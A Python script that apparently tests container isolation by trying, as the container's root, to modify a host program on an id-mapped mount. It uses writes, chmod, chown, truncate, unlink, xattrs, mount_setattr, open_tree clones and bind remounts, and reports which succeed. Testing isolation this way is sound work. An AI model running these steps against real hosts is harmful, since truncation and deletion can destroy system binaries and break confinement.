# Tries, as the zone's root, to change a program of the host whose mount has mapped ids. Prints what has worked.
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
path, name = sys.argv[1], sys.argv[1].encode()
AT_FDCWD, EMPTY_PATH = -100, 0x1000

def check(done):
    if done < 0:
        raise OSError(ctypes.get_errno(), '')

def writable(fd=AT_FDCWD, path=name, flags=0):
    # Takes the read-only attribute away.
    attr = (ctypes.c_ulonglong * 4)(0, 1, 0, 0)
    check(libc.syscall(442, fd, path, flags, ctypes.byref(attr), 32))

def copied():
    fd = libc.syscall(428, AT_FDCWD, name, 1)
    check(fd)
    writable(fd, b'', EMPTY_PATH)
    open('/proc/self/fd/%d' % fd, 'ab').write(b'x')

def bound():
    open('/var/tmp/file', 'w').close()
    check(libc.mount(name, b'/var/tmp/file', None, 4096, None))
    try:
        check(libc.mount(None, b'/var/tmp/file', None, 4096 | 32, None))
        open('/var/tmp/file', 'ab').write(b'x')
    finally:
        libc.umount2(b'/var/tmp/file', 2)

WAYS = [('write', lambda: open(path, 'ab').write(b'x')), ('chmod', lambda: os.chmod(path, 0o777)),
        ('chown', lambda: os.chown(path, 1, 1)), ('times', lambda: os.utime(path, (1, 1))),
        ('truncate', lambda: os.truncate(path, 0)), ('link', lambda: os.link(path, path + '2')),
        ('remove', lambda: os.unlink(path)), ('attribute', lambda: os.setxattr(path, 'user.x', b'x')),
        ('attributes of the mount', writable), ('remount', lambda: check(libc.mount(None, name, None, 4096 | 32, None))),
        ('unmount', lambda: check(libc.umount2(name, 2))), ('copy', copied), ('bind', bound)]

def attack(where):
    for what, way in WAYS:
        try:
            way()
            print(where, what, flush=True)
        except OSError:
            pass

attack('root')
if os.fork() == 0:
    if libc.unshare(0x20000) == 0:
        attack('mounts')
    os._exit(0)
os.wait()
print('end')
